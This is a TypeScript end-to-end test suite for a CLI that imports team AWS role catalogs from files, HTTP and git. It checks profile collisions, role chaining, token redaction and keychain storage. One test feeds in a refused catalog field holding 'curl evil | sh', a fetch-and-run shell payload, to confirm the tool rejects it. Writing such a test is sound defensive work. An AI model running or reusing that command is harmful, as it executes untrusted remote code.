// Team catalogs end to end through the built CLI: a local file, a local HTTP server (ETag), a real bare git
// repository over file://, forbidden fields refused by line, the user's own role winning a profile collision,
// a chain switched against the STS emulator, and an ARN change that never moves a live session.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { SEED_ROLES } from '../../electron/emulator/index.js';
import { openKeychain } from '../../electron/core/platform/keychain/keychain.js';
import { addAlice, addRole, type CliWorld, explain, startCliWorld } from './helpers.js';

type RoleEntry = Record<string, unknown>;

const BASE: RoleEntry[] = [
  { id: 'prod-ro', account: 'prod', roleName: 'readonly', group: 'prod' },
  { id: 'deployer', account: '222222222222', roleArn: SEED_ROLES.deployer, chainFrom: 'prod-ro' },
  { id: 'auditor', account: 'audit', roleArn: SEED_ROLES.auditor, chainFrom: 'deployer' },
];

/** A catalog document, pretty-printed so that each field has its own line. */
function catalogText(roles: RoleEntry[] = BASE): string {
  const accounts = [
    { id: '222222222222', name: 'prod' },
    { id: '333333333333', name: 'audit' },
  ];
  return `${JSON.stringify({ rolebarCatalog: 1, profilePrefix: 'acme-', accounts, roles }, null, 2)}\n`;
}

function profilesOf(run: {
  stdout: string;
}): Array<{ label: string; profile: string; roleArn?: string; catalog?: string }> {
  const parsed: unknown = JSON.parse(run.stdout);
  assert.ok(Array.isArray(parsed));
  return parsed.map((r: { label: string; profile: string; roleArn?: string; catalog?: string }) => r);
}

describe('rolebar catalog', () => {
  let w: CliWorld;
  let dir: string;
  before(async () => {
    w = await startCliWorld('cli-catalog');
    dir = path.join(w.sandbox.dir, 'published');
    mkdirSync(dir, { recursive: true });
    const run = await addAlice(w);
    assert.equal(run.code, 0, explain(run));
  });
  after(() => w.close());

  const ok = async (args: string[]) => {
    const run = await w.rolebar(args);
    assert.equal(run.code, 0, `${args.join(' ')}: ${explain(run)}`);
    return run;
  };

  it('refuses a catalog with a secret or a command, naming the file and the line, and keeps nothing', async () => {
    const text = catalogText([
      ...BASE,
      { id: 'bad', account: 'prod', roleName: 'x', credential_process: 'curl evil | sh' },
    ]);
    const file = path.join(dir, 'bad.json');
    writeFileSync(file, text);
    const line = text.split('\n').findIndex((l) => l.includes('credential_process')) + 1;
    const run = await w.rolebar(['catalog', 'add', 'bad', file, '--identity', 'alice']);
    assert.equal(run.code, 1, explain(run));
    assert.match(run.stderr, new RegExp(`bad\\.json, line ${line}: "credential_process" is not allowed`));
    assert.ok(!run.stderr.includes('curl evil'), 'the refused value is not echoed');
    const list = await ok(['catalog', 'list', '--json']);
    assert.deepEqual(JSON.parse(list.stdout), []);
  });

  it('adds a local file: its roles are listed beside the user’s, marked, with the prefix; rm removes them', async () => {
    const file = path.join(dir, 'local.json');
    writeFileSync(file, catalogText());
    const add = await ok(['catalog', 'add', 'local', file, '--identity', 'alice']);
    assert.match(add.stdout, /3 added/);
    const roles = profilesOf(await ok(['role', 'list', '--json']));
    const mine = roles.filter((r) => r.catalog === 'local').map((r) => r.profile);
    assert.deepEqual(mine.sort(), ['acme-auditor', 'acme-deployer', 'acme-prod-ro']);
    assert.equal(roles.find((r) => r.profile === 'acme-prod-ro')?.roleArn, SEED_ROLES.readonly);
    const edit = await w.rolebar(['role', 'rm', 'acme-prod-ro']);
    assert.equal(edit.code, 1, 'catalog roles are read-only');
    assert.match(edit.stderr, /comes from the catalog "local"/);
    await ok(['catalog', 'rm', 'local']);
    const after_ = profilesOf(await ok(['role', 'list', '--json']));
    assert.equal(after_.filter((r) => r.catalog !== undefined).length, 0);
  });

  it('the user’s own role wins a profile collision, and the collision is shown', async () => {
    const file = path.join(dir, 'clash.json');
    writeFileSync(file, catalogText());
    await addRole(w, 'acme-prod-ro', SEED_ROLES.admin);
    try {
      const add = await ok(['catalog', 'add', 'clash', file, '--identity', 'alice']);
      assert.match(
        add.stdout,
        /profile "acme-prod-ro": "acme-prod-ro" is used; the catalog role clash\/prod-ro is left out/,
      );
      const roles = profilesOf(await ok(['role', 'list', '--json'])).filter(
        (r) => r.profile === 'acme-prod-ro',
      );
      assert.equal(roles.length, 1);
      assert.equal(roles[0]?.roleArn, SEED_ROLES.admin, 'the user’s own role');
      assert.equal(roles[0]?.catalog, undefined);
    } finally {
      await w.rolebar(['catalog', 'rm', 'clash']);
      await w.rolebar(['role', 'rm', 'acme-prod-ro']);
    }
  });

  it('switches to a catalog role through a two-hop chain against the emulator', async () => {
    const file = path.join(dir, 'chain.json');
    writeFileSync(file, catalogText());
    await ok(['catalog', 'add', 'chain', file, '--identity', 'alice']);
    try {
      w.emu.clearRequests();
      await ok(['assume', 'acme-auditor']);
      assert.equal(w.emu.countRequests('AssumeRole'), 3, 'prod-ro, deployer, then auditor');
      const who = await ok(['whoami', '--profile', 'acme-auditor']);
      assert.match(who.stdout, /assumed-role\/auditor\//);
      assert.match(w.files().credentials ?? '', /\[acme-auditor\]/);
    } finally {
      await w.rolebar(['signout', 'acme-auditor']);
      await w.rolebar(['catalog', 'rm', 'chain']);
    }
  });

  it('an ARN change never moves a live session: the old ARN is kept until sign-out', async () => {
    const file = path.join(dir, 'moved.json');
    writeFileSync(file, catalogText());
    await ok(['catalog', 'add', 'moved', file, '--identity', 'alice']);
    try {
      await ok(['assume', 'acme-prod-ro']);
      writeFileSync(file, catalogText([{ ...BASE[0], roleName: 'admin' }, ...BASE.slice(1)]));
      const sync = await ok(['catalog', 'sync', 'moved']);
      assert.match(sync.stdout, /~ prod-ro: ARN .*readonly -> .*admin/);
      assert.match(sync.stdout, /your active session stays on .*readonly/);
      const arnOf = async () =>
        profilesOf(await ok(['role', 'list', '--json'])).find((r) => r.profile === 'acme-prod-ro')?.roleArn;
      assert.equal(await arnOf(), SEED_ROLES.readonly);
      await ok(['signout', 'acme-prod-ro']);
      assert.equal(await arnOf(), SEED_ROLES.admin);
    } finally {
      await w.rolebar(['catalog', 'rm', 'moved']);
    }
  });

  it('syncs over HTTP with ETag: a diff of added, removed and changed roles; a failure keeps the last good copy', async () => {
    let body = catalogText();
    let status = 200;
    const seen: IncomingHttpHeaders[] = [];
    const server: Server = createServer((request, response) => {
      seen.push(request.headers);
      const etag = `"${body.length}-${body.charCodeAt(body.length - 3)}"`;
      if (status !== 200) response.writeHead(status).end('down');
      else if (request.headers['if-none-match'] === etag) response.writeHead(304).end();
      else response.writeHead(200, { etag, 'content-type': 'application/json' }).end(body);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/catalog.json`;
    try {
      await ok(['catalog', 'add', 'web', url, '--identity', 'alice']);
      const same = await ok(['catalog', 'sync', 'web']);
      assert.match(same.stdout, /web: no changes/);
      assert.ok(seen.at(-1)?.['if-none-match'], 'the second fetch sent the ETag');
      body = catalogText([
        { ...BASE[0], externalId: 'team-ext-1' },
        { ...BASE[1], roleArn: SEED_ROLES.billing, chainFrom: undefined },
        { id: 'partner', account: 'prod', roleName: 'partner' },
      ]);
      const diff = await ok(['catalog', 'sync', 'web']);
      assert.match(diff.stdout, /1 added, 1 removed, 2 changed/);
      assert.match(diff.stdout, /\+ partner/);
      assert.match(diff.stdout, /- auditor/);
      assert.match(diff.stdout, /~ deployer: ARN .*deployer -> .*billing/);
      assert.match(diff.stdout, /~ prod-ro: external ID \(none\) -> team-ext-1/);
      status = 500;
      const failed = await w.rolebar(['catalog', 'sync', 'web']);
      assert.equal(failed.code, 1, explain(failed));
      assert.match(failed.stderr, /web: sync failed, the last good copy is kept.*HTTP 500/);
      const roles = profilesOf(await ok(['role', 'list', '--json'])).filter((r) => r.catalog === 'web');
      assert.deepEqual(roles.map((r) => r.profile).sort(), ['acme-deployer', 'acme-partner', 'acme-prod-ro']);
      const list = await ok(['catalog', 'list']);
      assert.match(list.stdout, /failed: .*HTTP 500/);
    } finally {
      await w.rolebar(['catalog', 'rm', 'web']);
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('syncs from a bare git repository over file:// with a branch and a path', async () => {
    const bare = path.join(w.sandbox.dir, 'roles.git');
    const work = path.join(w.sandbox.dir, 'roles-work');
    const git = (cwd: string, ...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t.invalid', ...args], {
        cwd,
        env: w.env,
        stdio: 'pipe',
      });
    git(w.sandbox.dir, 'init', '--quiet', '--bare', bare);
    git(w.sandbox.dir, 'init', '--quiet', '-b', 'team', work);
    mkdirSync(path.join(work, 'aws'));
    writeFileSync(path.join(work, 'aws', 'catalog.json'), catalogText(BASE.slice(0, 1)));
    git(work, 'add', '.');
    git(work, 'commit', '--quiet', '-m', 'one');
    git(work, 'push', '--quiet', bare, 'team');
    const source = `file://${bare}`;
    try {
      const add = await ok([
        'catalog',
        'add',
        'repo',
        source,
        '--branch',
        'team',
        '--path',
        'aws/catalog.json',
        '--identity',
        'alice',
      ]);
      assert.match(add.stdout, /1 added/);
      writeFileSync(path.join(work, 'aws', 'catalog.json'), catalogText(BASE.slice(0, 2)));
      git(work, 'commit', '--quiet', '-am', 'two');
      git(work, 'push', '--quiet', bare, 'team');
      const sync = await ok(['catalog', 'sync', 'repo']);
      assert.match(sync.stdout, /1 added, 0 removed, 0 changed/);
      assert.match(sync.stdout, /\+ deployer/);
      const list = await ok(['catalog', 'list']);
      assert.match(list.stdout, /repo .*git file:\/\/.*roles\.git \(branch team\), aws\/catalog\.json/);
    } finally {
      await w.rolebar(['catalog', 'rm', 'repo']);
    }
  });

  it('maps a catalog to another identity after add: every account, one account by its name, or none', async () => {
    const file = path.join(dir, 'mapped.json');
    writeFileSync(file, catalogText());
    const add = await ok(['catalog', 'add', 'mapped', file]);
    assert.match(add.stdout, /3 catalog role\(s\) have no identity.*rolebar catalog map NAME --identity/);
    const catalogRolesNow = async () =>
      profilesOf(await ok(['role', 'list', '--json'])).filter((r) => r.catalog === 'mapped');
    try {
      assert.equal((await catalogRolesNow()).length, 0, 'unmapped roles cannot be switched, so not listed');
      const all = await ok(['catalog', 'map', 'mapped', '--identity', 'alice']);
      assert.match(all.stdout, /mapped: accounts map to all=alice/);
      assert.equal((await catalogRolesNow()).length, 3);
      const unknown = await w.rolebar(['catalog', 'map', 'mapped', '--account-identity', 'nowhere=alice']);
      assert.equal(unknown.code, 1, explain(unknown));
      assert.match(unknown.stderr, /lists no account "nowhere"/);
      await ok(['catalog', 'map', 'mapped', '--account-identity', 'prod=alice', '--unmap', 'all']);
      const list = JSON.parse((await ok(['catalog', 'list', '--json'])).stdout) as Array<{ mapping: string }>;
      assert.equal(list[0]?.mapping, '222222222222=alice');
      // Every catalog role here chains from prod-ro in account prod: still mapped, still listed.
      assert.equal((await catalogRolesNow()).length, 3);
      await ok(['catalog', 'map', 'mapped', '--unmap', 'prod']);
      assert.equal((await catalogRolesNow()).length, 0);
    } finally {
      await w.rolebar(['catalog', 'rm', 'mapped']);
    }
  });

  it('a token in a source URL never shows in output, errors or the stored failure, and reaches the server', async () => {
    const token = 'ghp_s3cr3tT0ken';
    let status = 200;
    const auth: Array<string | undefined> = [];
    const server: Server = createServer((request, response) => {
      auth.push(request.headers.authorization);
      if (status !== 200) response.writeHead(status).end(`no: ${request.url}`);
      else response.writeHead(200, { 'content-type': 'application/json' }).end(catalogText());
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    const url = `http://deploy:${token}@127.0.0.1:${port}/catalog.json`;
    const shown: string[] = [];
    const run = async (args: string[], code = 0) => {
      const result = await w.rolebar(args);
      assert.equal(result.code, code, explain(result));
      shown.push(result.stdout, result.stderr);
      return result;
    };
    try {
      const basic = `Basic ${Buffer.from(`deploy:${token}`).toString('base64')}`;
      const secrets = openKeychain({ service: w.sandbox.keychainService, env: w.env });
      await run(['catalog', 'add', 'private', url, '--identity', 'alice']);
      assert.equal(auth.at(-1), basic);
      // The token lives in the keychain, one entry for the catalog; settings keep the URL without it.
      assert.ok(!(w.files().settings ?? '').includes(token), 'the token is in settings.json');
      assert.equal(await secrets.get('catalog-source:private'), `deploy:${token}`);
      const kept = JSON.parse(w.files().settings ?? '{}') as { catalogs: Array<{ source: { url: string } }> };
      assert.equal(kept.catalogs[0]?.source.url, `http://127.0.0.1:${port}/catalog.json`);
      // Its own entry is no orphan; a sync reads the token back from the keychain.
      const orphans = await run(['identity', 'orphans', '--json']);
      assert.ok(!orphans.stdout.includes('catalog-source'), orphans.stdout);
      auth.length = 0;
      await run(['catalog', 'sync', 'private']);
      assert.equal(auth.at(-1), basic);
      status = 401;
      const failed = await run(['catalog', 'sync', 'private'], 1);
      assert.match(failed.stderr, /http:\/\/127\.0\.0\.1:\d+\/catalog\.json: HTTP 401/);
      shown.push((await run(['catalog', 'list'])).stdout, (await run(['catalog', 'list', '--json'])).stdout);
      const stored = JSON.parse(w.files().settings ?? '{}') as { catalogs: Array<{ lastError?: string }> };
      assert.match(stored.catalogs[0]?.lastError ?? '', /HTTP 401/);
      shown.push(stored.catalogs[0]?.lastError ?? '');
      // A git source that cannot be reached: git's own message goes through the same redaction.
      const git = await run(['catalog', 'add', 'gone', `http://deploy:${token}@127.0.0.1:1/roles.git`], 1);
      assert.match(git.stderr, /Could not fetch git http:\/\/127\.0\.0\.1:1\/roles\.git/);
      for (const text of shown) assert.ok(!text.includes(token), `the token shows in: ${text}`);
      // Without its keychain entry a sync says so and how to put it back; `catalog rm` takes the entry with it.
      await secrets.delete('catalog-source:private');
      const missing = await run(['catalog', 'sync', 'private'], 1);
      assert.match(missing.stderr, /not in the keychain[\s\S]*rolebar catalog add private/);
      await secrets.set('catalog-source:private', `deploy:${token}`);
      await run(['catalog', 'rm', 'private']);
      assert.equal(await secrets.get('catalog-source:private'), null);
      // Settings an older version wrote, the token still in the URL: the next sync moves it to the keychain.
      status = 200;
      await run(['catalog', 'add', 'legacy', `http://127.0.0.1:${port}/catalog.json`, '--identity', 'alice']);
      const settingsFile = path.join(w.sandbox.rolebarHome, 'settings.json');
      const old = JSON.parse(readFileSync(settingsFile, 'utf8')) as {
        catalogs: Array<{ source: { url: string } }>;
      };
      const legacy = old.catalogs.find((c) => c.source.url.includes(`:${port}/`));
      if (legacy) legacy.source.url = url;
      writeFileSync(settingsFile, JSON.stringify(old));
      auth.length = 0;
      await run(['catalog', 'sync', 'legacy']);
      assert.equal(auth.at(-1), basic);
      assert.ok(!(w.files().settings ?? '').includes(token), 'the old token stayed in settings.json');
      assert.equal(await secrets.get('catalog-source:legacy'), `deploy:${token}`);
      await run(['catalog', 'rm', 'legacy']);
      assert.equal(await secrets.get('catalog-source:legacy'), null);
      // An entry whose catalog is gone (a process killed between the two steps of rm) is an orphan.
      await secrets.set('catalog-source:ghost', 'deploy:old');
      const ghost = await run(['identity', 'orphans', '--remove', '--json']);
      assert.match(ghost.stdout, /catalog-source:ghost/);
      assert.equal(await secrets.get('catalog-source:ghost'), null);
    } finally {
      await w.rolebar(['catalog', 'rm', 'legacy']);
      await w.rolebar(['catalog', 'rm', 'private']);
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
